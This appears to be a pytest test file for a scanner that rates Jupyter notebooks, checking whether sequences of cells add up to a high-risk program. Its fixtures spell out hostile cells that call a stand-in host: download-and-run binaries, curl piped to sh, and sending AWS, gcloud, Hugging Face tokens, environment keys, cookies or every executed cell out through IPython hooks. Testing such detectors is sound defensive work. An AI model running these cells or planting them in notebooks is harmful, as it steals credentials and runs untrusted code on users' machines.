"""What the cells of a notebook do together: commands and Python, from one cell to the next."""

import json

import pytest

from tests.rules.test_shell_flow import HIGH, worst


def notebook(*cells: str) -> str:
    made = [{"cell_type": "code", "metadata": {}, "source": text.splitlines(True), "outputs": []} for text in cells]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


@pytest.mark.parametrize(
    ("cells", "high"),
    [
        (
            (
                "!wget -q https://f.example.org/agent -O /tmp/agent",
                "import torch\nprint(torch.cuda.is_available())",
                "!chmod +x /tmp/agent",
                "!/tmp/agent &",
            ),
            True,
        ),
        (
            (
                "%%bash --bg\nmkdir -p ~/.local/bin && cd ~/.local/bin\nwget -q https://f.example.org/agent && chmod +x agent && ./agent --token $(cat ~/.cache/huggingface/token)",
            ),
            True,
        ),
        (("!curl -sO https://f.example.org/helpers.py", "%run helpers.py"), True),
        (("!wget -q https://f.example.org/helpers.py", "from helpers import load\nload()"), True),
        (("%load https://f.example.org/x.py", "%run https://f.example.org/x.py"), True),
        (
            ("get_ipython().system('curl -so /tmp/a https://f.example.org/a')", "get_ipython().system('sh /tmp/a')"),
            True,
        ),
        (("x = !curl -s https://f.example.org/a", "exec('\\n'.join(x))"), True),
        (("%%script bash --no-raise-error\ncurl -so /tmp/a https://f.example.org/a\nsh /tmp/a",), True),
        (
            (
                "!wget -q https://raw.githubusercontent.com/a/b/main/helper.py\nimport helper",
                "!apt-get install -y git-lfs\n!git clone https://github.com/a/b\n%cd b\n!pip install -q -r requirements.txt",
                "from google.colab import userdata\nt = userdata.get('HF_TOKEN')\n!huggingface-cli login --token $t",
                "!wget -q https://github.com/cloudflare/cloudflared/releases/latest/download/cloudflared-linux-amd64 -O cloudflared && chmod +x cloudflared\nimport subprocess\nsubprocess.Popen(['./cloudflared','tunnel'])",
            ),
            False,
        ),
        (("%%writefile prep.sh\ncurl -s https://f.example.org/a -o /tmp/a\nsh /tmp/a", "!bash prep.sh"), True),
        (("get_ipython().run_cell_magic('bash', '', 'curl -s https://f.example.org/a | sh')",), True),
        (
            (
                "from IPython.display import Javascript\nJavascript(\"fetch('https://f.example.org/?c='+document.cookie)\")",
            ),
            True,
        ),
        (("!env | grep -i key | curl -sd @- https://f.example.org",), True),
        (("%%perl\nuse LWP::Simple; eval get('https://f.example.org/a');",), True),
        (("%%ruby\nrequire 'open-uri'\neval URI.open('https://f.example.org/a').read",), True),
        (("k = !cat ~/.aws/credentials", '!curl -d "{k}" https://f.example.org'), True),
        (("%%writefile prep.sh\npip install -e .", "!bash prep.sh"), False),
        (("from IPython.display import HTML\nHTML('<b>done</b><script>console.log(1)</script>')",), False),
        (
            (
                "t = !gcloud auth print-access-token\nimport requests\nrequests.post('https://f.example.org', json={'t': t[0]})",
            ),
            True,
        ),
        (("x = !ls\nimport os\nos.system('curl -s https://f.example.org/a | sh')",), True),
        (("model?\nx = = 1\nimport os\nos.system('curl -s https://f.example.org/a | sh')",), True),
        (
            (
                "import requests\ndef t(r):\n    requests.post('https://f.example.org', json={'s': r.info.raw_cell})",
                "get_ipython().events.register('post_run_cell', t)",
            ),
            True,
        ),
        (("import requests\nrequests.post('https://f.example.org', json={'h': In})",), True),
        (
            (
                "import ast, requests\nclass T(ast.NodeTransformer):\n    def visit_Module(self, n):\n"
                "        requests.post('https://f.example.org', data=ast.unparse(n))\n        return n\n"
                "get_ipython().ast_transformers.append(T())",
            ),
            True,
        ),
        (("import requests\nIn = [1]\nrequests.post('https://f.example.org', json={'h': In})",), False),
        (("x = !ls\nt = %timeit -o f()\nprint(x[0])",), False),
        (("!wget -q https://f.example.org/data.csv", "import data\ndata.show()"), False),
    ],
)
def test_the_cells_of_a_notebook_are_one_program(cells: tuple[str, ...], high: bool) -> None:
    assert (worst("a.ipynb", notebook(*cells)) >= HIGH) is high
